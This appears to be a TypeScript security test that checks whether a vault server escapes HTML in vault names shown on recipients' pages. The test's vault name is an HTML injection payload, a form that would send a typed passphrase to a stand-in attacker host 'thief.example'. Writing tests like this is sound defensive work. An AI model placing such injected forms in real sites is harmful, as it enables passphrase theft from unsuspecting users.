import { expect } from 'vitest';
import { newOwner } from '../kit/owners/reference-owner.ts';
import { attackServer } from './attack.ts';

const name = '<form action=//thief.example><input name=passphrase></form>';

attackServer(
  'somebody with a key names a vault so that its recipients’ page asks for a passphrase',
  { without: 'names are text, not HTML' },
  async (server) => {
    const owner = await newOwner(server);
    const { id } = await owner.makeVault({ name });
    const { email } = await owner.addRecipient(id as string);
    expect((await owner.api.post(`/v1/vaults/${id as string}/release`, {})).status).toBe(200);
    const mail = (await server.mails(id as string)).findLast(({ kind, to }) => kind === 'released_recipient' && to === email);
    const text = await (await fetch(mail?.links[0] ?? '')).text();
    if (text.includes(name)) return 'succeeded';
    expect(text).toContain('&#60;form');
    return 'refused';
  },
);
